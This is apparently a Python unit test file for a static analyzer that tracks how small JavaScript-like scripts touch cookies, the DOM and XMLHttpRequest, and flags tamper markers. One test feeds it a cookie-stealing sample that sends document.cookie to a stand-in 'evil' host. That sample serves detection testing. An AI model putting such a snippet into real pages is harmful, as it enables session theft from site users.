"""Unit tests for the static mediation-flow analyzer.

Each test pins one analyzer behaviour on a hand-written MiniScript program:
sink prediction per construct, taint flows, interprocedural propagation,
handler escape, dead/unreachable code, and the script cache's reports.
"""

from __future__ import annotations

import hashlib

import pytest

from repro.scripting.analysis import (
    COOKIE_READ,
    COOKIE_USE,
    COOKIE_WRITE,
    DOM_READ,
    DOM_USE,
    DOM_WRITE,
    MARKER_PRIVILEGED_MARKUP,
    MARKER_TAMPER,
    XHR_USE,
    ScriptReport,
    analyze_source,
    script_digest,
)
from repro.scripting.cache import ScriptCache


def sinks(source: str) -> frozenset[str]:
    return analyze_source(source).sinks


def flows(source: str) -> frozenset[tuple[str, str]]:
    return analyze_source(source).flows


# -- digests -----------------------------------------------------------------------------


def test_script_digest_is_sha256_of_utf8_source():
    source = "var a = 1;"
    assert script_digest(source) == hashlib.sha256(source.encode("utf-8")).hexdigest()


def test_analyze_source_stamps_digest():
    source = "var a = 1;"
    assert analyze_source(source).digest == script_digest(source)


# -- sink prediction per construct -------------------------------------------------------


def test_trivial_script_has_no_sinks():
    report = analyze_source("var forumVersion = 'miniBB 1.0';")
    assert report.sinks == frozenset()
    assert report.flows == frozenset()
    assert report.error is None


def test_cookie_read_and_write():
    assert COOKIE_READ in sinks("var c = document.cookie;")
    assert COOKIE_WRITE in sinks("document.cookie = 'k=v';")


def test_element_lookup_and_write():
    report = analyze_source(
        "var e = document.getElementById('x');"
        "if (e != null) { e.innerHTML = 'hello'; }"
    )
    assert {DOM_WRITE, DOM_USE} <= report.sinks
    # The written value derives from the DOM lookup's receiver chain.
    assert ("dom", DOM_WRITE) in report.flows


def test_element_property_read_predicts_dom_read():
    report = analyze_source(
        "var e = document.getElementById('x');"
        "var t = e.innerHTML;"
    )
    assert {DOM_READ, DOM_USE} <= report.sinks


def test_xhr_send_predicts_use_and_cookie_sweep():
    report = analyze_source(
        "var xhr = new XMLHttpRequest();"
        "xhr.open('GET', '/api/unread');"
        "xhr.send();"
    )
    assert {XHR_USE, COOKIE_USE} <= report.sinks


def test_document_write_alias_still_predicted():
    # Aliasing the bound native through a local keeps the callable tag.
    report = analyze_source("var w = document.write; w('<b>hi</b>');")
    assert DOM_WRITE in report.sinks


# -- taint flows -------------------------------------------------------------------------


def test_cookie_to_xhr_exfiltration_flow():
    report = analyze_source(
        "var loot = document.cookie;"
        "var xhr = new XMLHttpRequest();"
        "xhr.open('GET', 'http://evil/c?x=' + loot);"
        "xhr.send();"
    )
    assert ("cookie", XHR_USE) in report.flows


def test_xhr_response_to_dom_flow():
    report = analyze_source(
        "var xhr = new XMLHttpRequest();"
        "xhr.open('GET', '/api/unread');"
        "xhr.send();"
        "var badge = document.getElementById('unread-count');"
        "if (badge != null && xhr.status == 200) { badge.textContent = xhr.responseText; }"
    )
    assert ("xhr_response", DOM_WRITE) in report.flows


def test_dom_read_to_cookie_write_flow():
    report = analyze_source(
        "var e = document.getElementById('x');"
        "document.cookie = 'stash=' + e.innerHTML;"
    )
    assert ("dom", COOKIE_WRITE) in report.flows


def test_interprocedural_flow_through_helper_return():
    report = analyze_source(
        "function grab() { return document.cookie; }"
        "var e = document.getElementById('x');"
        "e.innerHTML = grab();"
    )
    assert ("cookie", DOM_WRITE) in report.flows


def test_logical_operators_preserve_object_tags():
    # `||` returns one of its operands; the element tag must survive.
    report = analyze_source(
        "var e = document.getElementById('a') || document.getElementById('b');"
        "e.innerHTML = 'x';"
    )
    assert DOM_WRITE in report.sinks
    assert ("dom", DOM_WRITE) in report.flows


# -- handler escape ----------------------------------------------------------------------


def test_event_listener_parameters_are_event_tainted():
    report = analyze_source(
        "var e = document.getElementById('x');"
        "e.addEventListener('click', function (ev) { e.innerHTML = ev.type; });"
    )
    assert ("event", DOM_WRITE) in report.flows


def test_timer_callback_body_is_analyzed():
    report = analyze_source(
        "setTimeout(function () { var c = document.cookie; }, 50);"
    )
    assert COOKIE_READ in report.sinks


def test_xhr_onload_callback_is_analyzed():
    report = analyze_source(
        "var xhr = new XMLHttpRequest();"
        "xhr.open('GET', '/x', true);"
        "xhr.onload = function () { document.cookie = 'seen=1'; };"
        "xhr.send();"
    )
    assert COOKIE_WRITE in report.sinks


# -- dead and unreachable code -----------------------------------------------------------


def test_constant_false_branch_is_pruned_and_reported():
    report = analyze_source(
        "var a = 1;"
        "if (false) { var c = document.cookie; }"
    )
    assert COOKIE_READ not in report.sinks
    assert report.unreachable_branches


def test_statements_after_return_are_dead():
    report = analyze_source(
        "function f() {\n"
        "  return 1;\n"
        "  var c = document.cookie;\n"
        "}\n"
        "f();"
    )
    assert COOKIE_READ not in report.sinks
    assert 3 in report.dead_statements


def test_unreferenced_function_declaration_is_dead():
    report = analyze_source(
        "function never() { var c = document.cookie; }\n"
        "var a = 1;"
    )
    assert COOKIE_READ not in report.sinks
    assert 1 in report.dead_statements
    assert report.functions == 0


def test_referenced_function_is_reachable_and_counted():
    report = analyze_source("function used() { return 1; } used();")
    assert report.functions == 1
    assert not report.dead_statements


# -- soundness fallbacks -----------------------------------------------------------------


def test_computed_document_read_predicts_broadly():
    # ``document[key]`` with a dynamic key could name any member, so every
    # read-shaped document sink must be predicted.
    report = analyze_source("var key = 'cookie'; var c = document[key];")
    assert COOKIE_READ in report.sinks


def test_computed_document_write_predicts_cookie_write():
    report = analyze_source("var key = 'cookie'; document[key] = 'a=1';")
    assert COOKIE_WRITE in report.sinks


# -- parse errors ------------------------------------------------------------------------


def test_parse_error_yields_empty_exact_report():
    report = analyze_source("var = = nope;")
    assert report.error is not None
    assert report.sinks == frozenset()
    assert report.flows == frozenset()


# -- bounds and report shape -------------------------------------------------------------


def test_step_bound_grows_with_program_size():
    small = analyze_source("var a = 1;")
    large = analyze_source("var a = 1; var b = 2; var c = a + b; var d = c * c;")
    assert 0 < small.step_bound < large.step_bound


def test_report_as_dict_is_json_friendly_and_sorted():
    report = analyze_source("var c = document.cookie; document.cookie = c;")
    payload = report.as_dict()
    assert payload["sinks"] == sorted(report.sinks)
    assert payload["flows"] == sorted(list(pair) for pair in report.flows)
    assert payload["markers"] == sorted(report.markers)
    assert isinstance(payload["step_bound"], int)
    assert payload["error"] is None


def test_report_is_hashable_and_frozen():
    report = analyze_source("var a = 1;")
    assert isinstance(hash(report), int)
    with pytest.raises(AttributeError):
        report.sinks = frozenset()


# -- escalation markers ------------------------------------------------------------------


@pytest.mark.parametrize("attribute", ["ring", "read", "RING"])
def test_protected_setattribute_raises_tamper_marker(attribute):
    report = analyze_source(
        "var scope = document.getElementById('post-scope-1');"
        f"if (scope != null) {{ scope.setAttribute('{attribute}', '0'); }}"
    )
    assert MARKER_TAMPER in report.markers


def test_privileged_markup_literal_raises_marker():
    report = analyze_source(
        "var here = document.getElementById('x');"
        "here.innerHTML = '<div ring=\"0\">elevated?</div>';"
    )
    assert MARKER_PRIVILEGED_MARKUP in report.markers


def test_benign_attribute_write_has_no_markers():
    report = analyze_source(
        "var e = document.getElementById('x');"
        "e.setAttribute('title', 'hello');"
        "e.innerHTML = '<a href=\"/next\">next</a>';"
    )
    assert report.markers == frozenset()


# -- reports through the script cache ------------------------------------------------


def test_report_cache_miss_then_hit():
    cache = ScriptCache()
    source = "var c = document.cookie;"
    first = cache.report_for(source)
    second = cache.report_for(source)
    assert first is second
    assert first == analyze_source(source)
    assert cache.misses["reports"] == 1
    assert cache.hits["reports"] == 1
    assert cache.as_dict()["reports"]["hit_rate"] == 0.5
    assert len(cache) == 1


def test_report_cache_memoises_parse_errors():
    cache = ScriptCache()
    source = "var = = nope;"
    first = cache.report_for(source)
    second = cache.report_for(source)
    assert first is second
    assert first.error is not None
    assert first == analyze_source(source)


def test_report_cache_evicts_least_recently_used():
    cache = ScriptCache(maxsize=2)
    a, b, c = "var a = 1;", "var b = 2;", "var c = 3;"
    cache.report_for(a)
    cache.report_for(b)
    cache.report_for(a)  # refresh a; b is now the LRU entry
    cache.report_for(c)
    assert len(cache) == 2
    hits_before = cache.hits["reports"]
    cache.report_for(b)  # evicted: must be a miss
    assert cache.hits["reports"] == hits_before


def test_report_cache_reset_counters_keeps_entries():
    cache = ScriptCache()
    cache.report_for("var a = 1;")
    cache.report_for("var a = 1;")
    cache.reset_counters()
    assert cache.hits == {"scripts": 0, "reports": 0}
    assert cache.misses == {"scripts": 0, "reports": 0}
    assert len(cache) == 1


def test_report_cache_as_dict_shape():
    cache = ScriptCache()
    cache.report_for("var a = 1;")
    payload = cache.as_dict()
    assert set(payload) == {"scripts", "reports"}
    for counters in payload.values():
        assert set(counters) == {"hits", "misses", "hit_rate", "size", "maxsize"}
    reports = payload["reports"]
    assert reports["size"] == 1
    assert reports["misses"] == 1
    assert reports["maxsize"] == 512
